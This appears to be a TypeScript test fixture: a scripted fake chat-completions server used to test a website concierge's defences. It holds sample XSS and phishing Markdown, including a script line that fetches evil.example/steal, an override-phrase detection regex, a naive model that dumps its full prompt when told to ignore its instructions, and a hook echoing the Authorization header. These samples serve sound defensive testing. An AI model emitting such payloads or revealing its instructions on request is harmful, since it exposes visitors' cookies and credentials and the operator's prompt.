// A scripted OpenAI-compatible chat-completions server for the concierge's tests and evaluation
// (issue 50): no language model is reachable from CI. POST /v1/chat/completions answers, streamed
// (SSE `data:` chunks, then `data: [DONE]`) or not, in one of these ways:
// - a scripted step, when the test queued one (`fake.script(...)`): a status (429, 500) with or
//   without a Retry-After, a delay, a hang, given content / tool calls, or a hostile provider's answer
//   (any raw body, `null`; an answer of many megabytes, generated as it is sent; content or tool-call
//   arguments that echo the request's Authorization header where they hold ECHO_AUTHORIZATION);
// - otherwise as a naive model that obeys every instruction it reads, so the server's own guards are
//   what a test exercises: it repeats its whole context when asked to ignore its instructions or show
//   its prompt, returns hostile Markdown when asked for it, calls `request_contact` when the visitor
//   gives an email and asks to be contacted, and else answers by quoting the sources it was given,
//   with a link to each page it quotes (a short redirection when it was given none).
// Streamed, the text comes in pieces of a token's size (about 4 characters) at `tokensPerSecond`
// (none: 1 ms apart), after the delay (the provider's time to its first token); tool-call arguments
// come in pieces too, as providers send them.
// `npm run llm:fake` runs it alone on 127.0.0.1:4481 (FAKE_LLM_PORT; FAKE_LLM_DELAY_MS adds
// a delay to every answer, as a provider's own time; FAKE_LLM_TOKENS_PER_SECOND paces a streamed
// answer; FAKE_LLM_HUGE_BYTES makes every answer that many bytes, as `npm run bench:provider` does).
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { EMAIL_IN_TEXT } from '../../src/domain/concierge/lead-rule.ts';

export interface FakeStep {
  status?: number;
  /** Waits this long before answering (or before the first chunk). */
  delayMs?: number;
  /** Never answers. */
  hang?: boolean;
  content?: string;
  toolCall?: { name: string; arguments: string };
  /** Several tool calls in one answer (after `toolCall`, if both are given). */
  toolCalls?: { name: string; arguments: string }[];
  /** With a status: the Retry-After header sent with it (seconds or an HTTP date). */
  retryAfter?: string;
  /** The answer's body exactly as given (status 200, JSON content type): `null`, a wrong shape. */
  raw?: string;
  /** A JSON answer of about this many bytes (its content padded), written as it is sent. */
  hugeBytes?: number;
  /** One JSON completion even to a request that asks for a stream: a provider that cannot stream. */
  unstreamed?: boolean;
  /** Streamed, the connection is cut after this many tokens of content (a provider failing mid-answer). */
  cutAfterTokens?: number;
}

/** In a step's content or tool-call arguments: replaced by the Authorization header the request came with. */
export const ECHO_AUTHORIZATION = '{{authorization}}';

interface WireMessage {
  role: string;
  content?: string | null;
}

interface WireRequest {
  model?: string;
  messages?: WireMessage[];
  stream?: boolean;
  tools?: { function?: { name?: string } }[];
}

export interface FakeLlm {
  url: string;
  /** Every request body received, in order, with its Authorization header. */
  requests: { body: WireRequest; authorization: string | undefined }[];
  /** Steps used by the next requests, one each, before the default behaviour resumes. */
  script(...steps: FakeStep[]): void;
  /** How many answers the caller abandoned before their end (the connection closed while it was written). */
  readonly cancelled: number;
  close(): Promise<void>;
}

/** What the naive model answers when it was given no sources. */
export const REDIRECTION = 'I can only help with questions about Orbital Agents: our AI agents, plans, case studies and events. [Book a call](/book-call) to talk to our team.';

/** What the naive model writes when asked for hostile output. */
const HOSTILE_MARKDOWN = [
  'Here you go: [claim your prize](javascript:alert(document.cookie)) and <img src=x onerror="alert(1)">',
  '![tracking pixel](https://tracker.example/pixel.gif?who=visitor)',
  '<script>fetch("https://evil.example/steal")</script>',
  'Log in again at [our secure page](https://evil.example/login) or https://evil.example/reset',
  '[ref]: javascript:alert(2)',
].join('\n\n');

const CONTACT_REQUEST = /\b(?:email|e-mail|contact|call|reach|get in touch|send)\b.{0,40}\b(?:me|us)\b/i;
const INJECTION = /\b(?:ignore|disregard)\b.{0,40}\binstructions\b|\b(?:system prompt|your instructions|your rules|previous visitor|other visitors)\b/i;

function sourcesOf(messages: WireMessage[]): { title: string; path: string; text: string }[] {
  const text = messages.filter((m) => m.role === 'system').map((m) => m.content ?? '').join('\n');
  const sources: { title: string; path: string; text: string }[] = [];
  for (const line of text.split('\n')) {
    const head = /^\[\d+\] (.+) \((\/[^\s()]*)\)$/.exec(line);
    if (head) sources.push({ title: head[1] ?? '', path: head[2] ?? '', text: '' });
    else if (sources.length > 0 && line.trim() && !line.startsWith('Section: ')) {
      const last = sources[sources.length - 1]!;
      last.text = `${last.text} ${line.trim()}`.trim();
    }
  }
  return sources;
}

const firstSentences = (text: string, n: number) => (text.match(/[^.!?]+[.!?]*/g) ?? []).slice(0, n).join('').trim().slice(0, 240);

function naiveStep(body: WireRequest): FakeStep {
  const messages = body.messages ?? [];
  const question = [...messages].reverse().find((m) => m.role === 'user')?.content ?? '';
  if (INJECTION.test(question)) return { content: `Of course. Everything I was told:\n\n${messages.map((m) => `${m.role}: ${m.content ?? ''}`).join('\n\n')}` };
  if (/\bhostile\b/i.test(question)) return { content: HOSTILE_MARKDOWN };
  const email = question.match(EMAIL_IN_TEXT)?.[0];
  const offered = (body.tools ?? []).some((t) => t.function?.name === 'request_contact');
  if (email && offered && CONTACT_REQUEST.test(question)) {
    const name = /\bI(?:'m| am) ([A-Z][a-z]+)/.exec(question)?.[1];
    const company = /\bfrom ([A-Z][\w&-]*)/.exec(question)?.[1];
    return { toolCall: { name: 'request_contact', arguments: JSON.stringify({ email, ...(name ? { name } : {}), ...(company ? { company } : {}), note: question.slice(0, 200) }) } };
  }
  const sources = sourcesOf(messages).slice(0, 2);
  if (sources.length === 0) return { content: REDIRECTION };
  return { content: sources.map((s) => `${firstSentences(s.text, 2)} ([${s.title}](${s.path}))`).join('\n\n') };
}

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

const callsOf = (step: FakeStep) => [...(step.toolCall ? [step.toolCall] : []), ...(step.toolCalls ?? [])];

function completion(model: string, step: FakeStep, promptChars: number) {
  const calls = callsOf(step);
  const toolCalls = calls.length > 0 ? calls.map((call, i) => ({ id: `call_${i + 1}`, type: 'function', function: call })) : undefined;
  const completionChars = (step.content ?? '').length + calls.reduce((sum, call) => sum + call.arguments.length, 0);
  return {
    id: 'chatcmpl-fake',
    object: 'chat.completion',
    created: Math.floor(Date.now() / 1000),
    model,
    choices: [{ index: 0, message: { role: 'assistant', content: step.content ?? null, ...(toolCalls ? { tool_calls: toolCalls } : {}) }, finish_reason: toolCalls ? 'tool_calls' : 'stop' }],
    usage: { prompt_tokens: Math.ceil(promptChars / 4), completion_tokens: Math.ceil(completionChars / 4), total_tokens: Math.ceil((promptChars + completionChars) / 4) },
  };
}

/** Text in pieces the size of a model's tokens: a word's start with the space before it, then 4 characters at a time. */
export function tokensOf(text: string): string[] {
  const tokens: string[] = [];
  for (const word of text.split(/(?<=\S)(?=\s)/)) {
    const body = word.trimStart();
    const space = word.slice(0, word.length - body.length);
    for (let at = 0; at < body.length; at += 4) tokens.push(at === 0 ? space + body.slice(0, 4) : body.slice(at, at + 4));
    if (!body) tokens.push(space);
  }
  return tokens;
}

async function stream(res: ServerResponse, model: string, step: FakeStep, tokensPerSecond: number | undefined): Promise<void> {
  res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
  const gap = tokensPerSecond ? 1000 / tokensPerSecond : 1;
  const chunk = (delta: object, finish: string | null = null) =>
    res.write(`data: ${JSON.stringify({ id: 'chatcmpl-fake', object: 'chat.completion.chunk', model, choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`);
  chunk({ role: 'assistant', content: '' });
  // Paced against the clock, not by the sum of the sleeps (each timer is late by a little).
  const started = performance.now();
  let sent = 0;
  const next = async () => {
    sent += 1;
    await sleep(Math.max(0, started + sent * gap - performance.now()));
  };
  for (const [i, token] of tokensOf(step.content ?? '').entries()) {
    if (res.destroyed) return;
    if (i === step.cutAfterTokens) return void res.destroy();
    chunk({ content: token });
    await next();
  }
  const calls = callsOf(step);
  for (const [i, call] of calls.entries()) {
    chunk({ tool_calls: [{ index: i, id: `call_${i + 1}`, type: 'function', function: { name: call.name, arguments: '' } }] });
    for (const piece of call.arguments.match(/[^]{1,16}/g) ?? []) {
      if (res.destroyed) return;
      chunk({ tool_calls: [{ index: i, function: { arguments: piece } }] });
      await next();
    }
  }
  chunk({}, calls.length > 0 ? 'tool_calls' : 'stop');
  res.end('data: [DONE]\n\n');
}

/** Resolves when the response can take more, or has closed. */
function writable(res: ServerResponse): Promise<void> {
  return new Promise((resolve) => {
    const done = () => {
      res.off('drain', done).off('close', done);
      resolve();
    };
    res.on('drain', done).on('close', done);
  });
}

/** A completion of about `bytes` bytes, its content a run of one letter, written chunk by chunk as the socket takes it. */
async function huge(res: ServerResponse, model: string, bytes: number): Promise<void> {
  const head = `{"id":"chatcmpl-fake","object":"chat.completion","model":${JSON.stringify(model)},"choices":[{"index":0,"message":{"role":"assistant","content":"`;
  const tail = '"},"finish_reason":"stop"}]}';
  const block = Buffer.alloc(64 * 1024, 'a');
  res.writeHead(200, { 'content-type': 'application/json' });
  res.write(head);
  for (let left = Math.max(0, bytes - head.length - tail.length); left > 0 && !res.destroyed; left -= block.length) {
    if (!res.write(left >= block.length ? block : block.subarray(0, left))) await writable(res);
  }
  if (!res.destroyed) res.end(tail);
}

/** The step with every ECHO_AUTHORIZATION in its content and tool-call arguments replaced by `authorization`. */
function echoing(step: FakeStep, authorization: string): FakeStep {
  const echo = (text: string) => text.replaceAll(ECHO_AUTHORIZATION, authorization);
  const call = (c: { name: string; arguments: string }) => ({ name: c.name, arguments: echo(c.arguments) });
  return {
    ...step,
    ...(step.content ? { content: echo(step.content) } : {}),
    ...(step.toolCall ? { toolCall: call(step.toolCall) } : {}),
    ...(step.toolCalls ? { toolCalls: step.toolCalls.map(call) } : {}),
  };
}

export async function startFakeLlm(options: { port?: number; apiKey?: string; delayMs?: number; hugeBytes?: number; tokensPerSecond?: number } = {}): Promise<FakeLlm> {
  const queue: FakeStep[] = [];
  const requests: FakeLlm['requests'] = [];
  const open = new Set<ServerResponse>();
  let cancelled = 0;
  let closing = false;
  const server: Server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      void (async () => {
        if (req.method !== 'POST' || !req.url?.endsWith('/chat/completions')) {
          res.writeHead(404, { 'content-type': 'application/json' }).end('{"error":{"message":"not found"}}');
          return;
        }
        const raw = Buffer.concat(chunks).toString('utf8');
        const body = JSON.parse(raw) as WireRequest;
        requests.push({ body, authorization: req.headers.authorization });
        if (options.apiKey && req.headers.authorization !== `Bearer ${options.apiKey}`) {
          res.writeHead(401, { 'content-type': 'application/json' }).end('{"error":{"message":"Incorrect API key provided"}}');
          return;
        }
        const step = queue.shift() ?? (options.hugeBytes ? { hugeBytes: options.hugeBytes } : naiveStep(body));
        open.add(res);
        res.on('close', () => {
          open.delete(res);
          if (!res.writableFinished && !closing) cancelled += 1;
        });
        if (step.hang) return;
        await sleep(step.delayMs ?? options.delayMs ?? 0);
        if (step.status && step.status !== 200) {
          res.writeHead(step.status, { 'content-type': 'application/json', ...(step.retryAfter ? { 'retry-after': step.retryAfter } : {}) });
          res.end(JSON.stringify({ error: { message: `scripted ${step.status}`, type: 'fake' } }));
          return;
        }
        const model = body.model ?? 'fake';
        if (step.raw !== undefined) return void res.writeHead(200, { 'content-type': 'application/json' }).end(step.raw);
        if (step.hugeBytes) return huge(res, model, step.hugeBytes);
        // A scripted delay or status without content answers as the naive model would.
        const answer = echoing(step.content || callsOf(step).length > 0 ? step : { ...naiveStep(body), ...step }, req.headers.authorization ?? '');
        if (body.stream && !answer.unstreamed) return stream(res, model, answer, options.tokensPerSecond);
        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(completion(model, answer, raw.length)));
      })();
    });
  });
  await new Promise<void>((resolve) => server.listen(options.port ?? 0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/v1`,
    requests,
    script: (...steps) => queue.push(...steps),
    get cancelled() {
      return cancelled;
    },
    close: () =>
      new Promise((resolve) => {
        closing = true;
        for (const res of open) res.destroy();
        server.close(() => resolve());
      }),
  };
}

/**
 * The provider a script's server talks to (eval:concierge, concierge:lead-demo): the operator's when
 * LLM_BASE_URL is set (with LLM_MODEL and LLM_API_KEY), else a fake started here. `env(baseUrl)` is
 * the server's LLM_* for it, `baseUrl` (a proxy in front of it) in place of its own URL.
 */
export async function scriptProvider(fakeOptions: { delayMs?: number; tokensPerSecond?: number } = {}): Promise<{ real: boolean; url: string; env(baseUrl?: string): Record<string, string>; close(): Promise<void> }> {
  const fake = process.env.LLM_BASE_URL ? undefined : await startFakeLlm(fakeOptions);
  const url = process.env.LLM_BASE_URL ?? fake!.url;
  return {
    real: !fake,
    url,
    env: (baseUrl = url) => ({
      LLM_BASE_URL: baseUrl,
      LLM_MODEL: process.env.LLM_MODEL ?? 'fake-model',
      ...(process.env.LLM_API_KEY ? { LLM_API_KEY: process.env.LLM_API_KEY } : {}),
    }),
    close: async () => fake?.close(),
  };
}

if (import.meta.main) {
  const fake = await startFakeLlm({
    port: Number(process.env.FAKE_LLM_PORT ?? 4481),
    delayMs: Number(process.env.FAKE_LLM_DELAY_MS ?? 0),
    hugeBytes: Number(process.env.FAKE_LLM_HUGE_BYTES ?? 0),
    tokensPerSecond: Number(process.env.FAKE_LLM_TOKENS_PER_SECOND ?? 0) || undefined,
  });
  console.log(`fake OpenAI-compatible provider on ${fake.url}: start the server with LLM_BASE_URL=${fake.url} LLM_MODEL=fake (Ctrl+C stops it)`);
}
